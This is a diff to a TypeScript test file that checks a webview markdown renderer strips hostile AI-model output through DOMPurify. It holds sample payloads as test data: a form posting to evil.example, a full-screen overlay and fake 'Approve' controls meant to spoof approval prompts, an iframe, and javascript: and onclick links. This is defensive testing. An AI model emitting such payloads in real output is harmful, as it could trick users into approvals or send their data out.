@@ -2,10 +2,12 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { closeOpenFence, escapeHtml, markdownToHtml } from '../../../src/webview/lib/markdown';
 
-test('code blocks get a Copy button and escaped content', () => {
+test('code blocks get a Copy button (added after sanitizing) and escaped content', () => {
   const html = markdownToHtml('Run:\n\n```sh\necho "<b>"\n```\n');
-  assert.match(html, /<button type="button" class="copy" data-copy aria-label="Copy code">Copy<\/button>/);
+  assert.doesNotMatch(html, /<button/);
   assert.match(html, /<code class="language-sh">echo &#34;&#60;b&#62;&#34;<\/code>/);
+  const button = render('Run:\n\n```sh\necho "<b>"\n```\n').querySelector('.code-block > button.copy[data-copy]');
+  assert.equal(button?.textContent, 'Copy');
 });
 
 test('a hostile language tag cannot break out of the class attribute', () => {
@@ -34,4 +36,61 @@ test('escapeHtml escapes all five characters', () => {
     escapeHtml(`<a href="x" title='y'>&</a>`),
     '&#60;a href=&#34;x&#34; title=&#39;y&#39;&#62;&#38;&#60;/a&#62;',
   );
+});
+
+// Hostile model output through the real sanitizer (DOMPurify over jsdom, the same config the panel uses).
+import { JSDOM } from 'jsdom';
+import createDOMPurify from 'dompurify';
+import { COPY_BUTTON, sanitizeModelHtml } from '../../../src/webview/lib/markdown';
+
+function render(markdown: string): Document {
+  const { window } = new JSDOM('');
+  const purify = createDOMPurify(window as unknown as Parameters<typeof createDOMPurify>[0]);
+  const html = sanitizeModelHtml(markdownToHtml(markdown), purify);
+  return new JSDOM(`<body>${html}</body>`).window.document;
+}
+
+test('model output cannot carry forms, inputs, buttons, styles, frames, dialogs or positioned overlays', () => {
+  const hostile = [
+    '# Done',
+    '<form action="https://evil.example/collect" method="post"><input name="q" value="x"><button>Approve</button></form>',
+    '<div style="position:fixed;inset:0;z-index:99999;background:white">Click Approve below</div>',
+    '<style>.approval{display:none} body{background:red}</style>',
+    '<span class="approval toolbar item" id="approve" data-testid="approve" data-copy tabindex="0">Approve</span>',
+    '<dialog open>modal</dialog><div popover="manual">top layer</div><iframe src="https://evil.example"></iframe>',
+    '<textarea>t</textarea><select><option>o</option></select><svg><foreignObject><div>x</div></foreignObject></svg>',
+    '<img src="x" width="5000" height="5000" style="position:absolute">',
+    '- [ ] a task list checkbox',
+    '',
+    '```sh',
+    'echo "<b>kept as text</b>"',
+    '```',
+  ].join('\n');
+  const doc = render(hostile);
+  for (const sel of ['form', 'input', 'textarea', 'select', 'option', 'style', 'iframe', 'dialog', 'svg', '[popover]'])
+    assert.equal(doc.querySelector(sel), null, `${sel} was removed`);
+  for (const el of doc.querySelectorAll('*')) {
+    assert.equal(el.getAttribute('style'), null, `${el.tagName} has no style`);
+    assert.equal(el.getAttribute('id'), null, `${el.tagName} has no id`);
+    assert.equal(el.getAttribute('tabindex'), null);
+    for (const a of el.getAttributeNames()) assert.ok(!a.startsWith('data-') || el.matches('button.copy'), a);
+    for (const c of el.classList) assert.match(c, /^(code-block|language-sh|copy)$/);
+  }
+  // The only button is our own Copy button, one per code block; the code stays text.
+  const buttons = doc.querySelectorAll('button');
+  assert.equal(buttons.length, 1);
+  assert.equal(buttons[0]!.outerHTML.replace('data-copy=""', 'data-copy'), COPY_BUTTON);
+  assert.equal(doc.querySelector('.code-block code')!.textContent, 'echo "<b>kept as text</b>"');
+  // The harmless parts stay: the heading and the overlay's text (as plain text, in the flow).
+  assert.equal(doc.querySelector('h1')!.textContent, 'Done');
+  assert.match(doc.body.textContent!, /Click Approve below/);
+  assert.ok(doc.querySelector('img'), 'an image stays, without size or position');
+  assert.equal(doc.querySelector('img')!.getAttribute('width'), null);
+});
+
+test('links stay links but cannot run script', () => {
+  const doc = render('[ok](https://example.com) [bad](javascript:alert(1)) <a href="vbscript:x" onclick="x()">v</a>');
+  const hrefs = [...doc.querySelectorAll('a')].map((a) => a.getAttribute('href'));
+  assert.deepEqual(hrefs, ['https://example.com', null, null]);
+  assert.equal(doc.querySelector('[onclick]'), null);
 });
